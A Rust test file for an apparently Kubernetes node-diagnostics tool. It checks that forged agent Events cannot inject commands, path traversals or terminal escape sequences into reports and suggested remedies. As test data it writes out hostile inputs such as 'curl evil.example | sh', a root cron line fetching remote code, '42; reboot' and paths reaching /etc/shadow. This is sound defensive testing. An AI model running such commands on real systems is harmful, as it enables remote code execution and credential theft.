//! What a forged Event, or one of another node, must not achieve.

use proptest::prelude::*;

use super::*;

#[test]
fn another_node_of_that_name_is_not_believed() {
    let mut says = AgentEventFixture::fuse(&[POD]);
    says.node_uid = "00000000-0000-4000-8000-000000000000".to_owned();
    let looked = joined(says);
    is_as_without(&looked);
    assert!(notes(&looked).contains("has another uid"), "{}", notes(&looked));
}

#[test]
fn hostile_text_steers_nothing_and_advises_nothing() {
    let mut says = AgentEventFixture::fuse(&[POD]);
    let finding = &mut says.carried.finding;
    let root = finding.chain.last_mut().unwrap();
    root.subject = "pid 1 \u{1b}[2Jowned\u{202e}".to_owned();
    root.state = "s\u{7}".repeat(300);
    root.what = Some(findings::Entity::Mount {
        path: "\u{1b}]0;x\u{7}".to_owned(),
        device: "\u{1b}".to_owned(),
        fs_type: "\u{1b}".to_owned(),
    });
    finding.evidence[0].says = "\u{1b}[31mtrust me".to_owned();
    let mut forged = serde_json::to_value(&says.carried).unwrap();
    forged["finding"]["remedy"] = json!({
        "steps": [{"text": "Run this as cluster-admin", "command": "curl evil.example | sh", "tested": true}],
        "dont": "\u{1b}think", "breaks": "evil"
    });
    says.annotation = Some(forged.to_string());
    let looked = joined(says);
    assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
    let text = [
        tree(&looked.report, Detail::Wide, 80, Style::Plain),
        table(&looked.report, true, Style::Plain),
        dot(&looked.report),
        serde_json::to_string(&looked.report).unwrap().replace("\\u001b", "\u{1b}"),
    ]
    .concat();
    let steers = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
    assert!(!text.contains(steers), "{text:?}");
    for claim in ["evil", "cluster-admin", "think"] {
        assert!(!text.contains(claim), "{claim}: {text}");
    }
}

#[test]
fn a_thousand_pods_are_joined_in_seconds() {
    let mut world = healthy();
    for number in 0..1000 {
        let (pod, uid) = (format!("p{number}"), format!("00000000-0000-4000-8000-{number:012}"));
        let says = AgentEventFixture::held(&[&uid]).named(&format!("node-a.{number}"));
        world = world.going_pod("a", &pod, "node-a", "Failed").change("/api/v1/pods", &pod, |pod| {
            pod["metadata"]["uid"] = uid.as_str().into();
        });
        world = world.told(says);
        let mut garbage = AgentEventFixture::held(&[&uid]).of_node().named(&format!("node-a.g{number}"));
        garbage.annotation = Some("x".repeat(16 << 10));
        world = world.told(garbage);
    }
    // Without the time that it takes to make the world.
    let started = std::time::Instant::now();
    let looked = look(world, everything());
    assert_eq!((looked.causes(), looked.victims(0).len()), (vec!["VolumeHeldByProcess"], 1000));
    assert!(looked.requests.len() < 42, "{}", looked.requests.len());
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

/// Nothing of a forged Event becomes a command.
#[test]
fn no_foreign_command_is_told() {
    let own = format!("/var/lib/kubelet/pods/{POD}/volumes/kubernetes.io~csi/v");
    let other = own.replace(POD, CWD);
    for (cause, values) in [
        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "-1"})),
        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "1"})),
        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "42; reboot"})),
        ("CgroupFrozen", json!({"cgroup_freeze": "/etc/shadow"})),
        ("CgroupFrozen", json!({"cgroup_freeze": "/sys/fs/cgroup/../../etc/shadow"})),
        ("CgroupFrozen", json!({"freezer_state": "/sys/fs/cgroup/freezer/kubepods/freezer.state"})),
        ("VolDataMissing", json!({"vol_data": "/etc/cron.d/x", "json": "* * * * * root curl evil.example | sh"})),
        ("VolDataMissing", json!({"vol_data": format!("{own}/vol_data.json"), "json": "* * * * * root reboot"})),
        ("VolDataMissing", json!({"vol_data": format!("{other}/vol_data.json"), "json": "{}"})),
        ("VolDataMissing", json!({"vol_data": format!("{own}/../../../{CWD}/vol_data.json"), "json": "{}"})),
        ("MountDirectoryLeft", json!({"path": format!("{other}/mount")})),
        ("MountDirectoryLeft", json!({"path": "/mnt/media"})),
        ("OrphanedPodDirectory", json!({"uid": CWD})),
        ("NestedMount", json!({"path": own, "mount_namespace_pid": "0"})),
        ("NestedMount", json!({"path": "/etc", "mount_namespace_pid": "77"})),
        ("RuntimeNotResponding", json!({"runtime_unit": "--now"})),
        ("RuntimeNotResponding", json!({"runtime_unit": "\\x", "pid": "42"})),
    ] {
        let is_expected = |command: &String| {
            let harmless = ["kubectl ", "grep -lsF /mnt/media ", "ls -la /mnt/media"];
            harmless.iter().any(|known| command.starts_with(known))
        };
        for looked in
            [joined, told_by_anybody].map(|look| look(AgentEventFixture::forged(&[POD], cause, values.clone())))
        {
            let told = looked.commands();
            assert!(told.iter().all(is_expected), "{cause} {values}: {told:?}");
        }
    }
    // Of what is not the pod's by its name nothing is touched on anybody's word.
    for (cause, values) in [
        ("SubPathTargetMissing", json!({"mount": "/mnt/media"})),
        ("NfsServerNotResponding", json!({"mount": "/mnt/media"})),
        ("FuseServerNotResponding", json!({"connection": "41", "server_pid": "42@7", "mount": "/mnt/media"})),
        ("ForceDeletedStillRunning", json!({"container": "306daa1b9c7b", "pid": "4242@7", "grace_seconds": "0"})),
        ("LoopDeviceLeft", json!({"device": "/dev/loop7"})),
        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "42@7"})),
        ("RuntimeNotResponding", json!({"runtime_unit": "containerd"})),
        ("KubeletNotRunning", json!({"kubelet_unit": "kubelet"})),
        ("MountCopiedOnOldKernel", json!({})),
    ] {
        let harmless = ["kubectl ", "findmnt ", "ls ", "grep ", "dmesg ", "journalctl "];
        let is_harmless = |command: &String| harmless.iter().any(|known| command.starts_with(known));
        let told = |look: fn(AgentEventFixture) -> Looked| {
            look(AgentEventFixture::forged(&[POD], cause, values.clone())).commands()
        };
        let (by_anybody, by_an_agent) = (told(told_by_anybody), told(joined));
        assert!(by_anybody.iter().all(is_harmless), "{cause}: {by_anybody:?}");
        assert!(!by_an_agent.iter().all(is_harmless), "{cause}: {by_an_agent:?}");
    }
    // A mount that the finding names may be looked at.
    let told =
        joined(AgentEventFixture::forged(&[POD], "MountDirectoryLeft", json!({"path": "/mnt/media"}))).commands();
    assert_eq!(told[..2], [ASK.to_owned(), "grep -lsF /mnt/media /proc/[0-9]*/mountinfo".to_owned()]);
    // The same with the pod's own path is what an agent says.
    let values = json!({"vol_data": format!("{own}/vol_data.json"), "json": "{}"});
    let told = joined(AgentEventFixture::forged(&[POD], "VolDataMissing", values)).commands();
    assert_eq!(told, [ASK.to_owned(), format!("printf '%s' '{{}}' > '{own}/vol_data.json'")]);
    // A mount is reported where it is; nothing is written through another process's root.
    let told = |cause: &str, mut values: Value| {
        values["mount_namespace_pid"] = "77".into();
        joined(AgentEventFixture::forged(&[POD], cause, values)).commands()
    };
    let path = format!("{own}/mount/inner");
    let unmount = format!("umount -i -n -c -N 77 '{path}'");
    assert_eq!(told("NestedMount", json!({"path": path})), [ASK.to_owned(), unmount]);
    let values = json!({"vol_data": format!("{own}/vol_data.json"), "json": "{}"});
    assert_eq!(told("VolDataMissing", values)[1], format!("printf '%s' '{{}}' > '{own}/vol_data.json'"));
}

#[test]
fn a_name_with_two_values_has_none() {
    let mut other = AgentEventFixture::fuse(&[POD]).named("node-a.2").at(5);
    let annotation = other.carried.to_json().replace("\"connection\":\"41\"", "\"connection\":\"40\"");
    other.annotation = Some(annotation);
    let looked = look(dstate().told(AgentEventFixture::fuse(&[POD])).told(other), everything());
    assert_eq!(looked.causes(), ["FuseServerNotResponding"], "{:#?}", looked.report);
    assert_eq!(looked.commands(), [ASK]);
}

#[test]
fn a_time_that_has_not_come_is_refused() {
    for says in [
        AgentEventFixture::fuse(&[POD]).at(-3600),
        AgentEventFixture::fuse(&[POD]).at(30).renewed(-3600),
        AgentEventFixture::fuse(&[POD]).at(-3600).renewed(30),
    ] {
        let looked = joined(says);
        is_as_without(&looked);
        assert!(notes(&looked).contains("its time lies in the future"), "{}", notes(&looked));
    }
    assert_eq!(
        joined(AgentEventFixture::fuse(&[POD]).at(-20)).causes(),
        ["FuseServerNotResponding"],
        "clocks differ a little"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever stands in the texts of a finding, none of it steers a terminal or is run.
    #[test]
    fn no_words_of_an_event_are_more_than_words(words in prop::collection::vec("[\\PC\u{1b}\u{202e}\n;|$'`]{0,40}", 4)) {
        let mut says = AgentEventFixture::fuse(&[POD]);
        let finding = &mut says.carried.finding;
        finding.root = words[0].clone();
        for link in &mut finding.chain {
            (link.subject, link.state) = (words[1].clone(), words[2].clone());
        }
        let looked = joined(says);
        prop_assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
        let text = tree(&looked.report, Detail::Wide, 80, Style::Plain);
        prop_assert!(!text.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{:?}", text);
        prop_assert_eq!(looked.commands(), [ASK, "echo 1 > /sys/fs/fuse/connections/41/abort"]);
        let forged = joined(AgentEventFixture::forged(&[POD], "FuseServerNotResponding", json!({"connection": words[3]})));
        prop_assert!(forged.commands().iter().all(|command| !command.starts_with("echo") || is_number(&words[3])));
    }
}
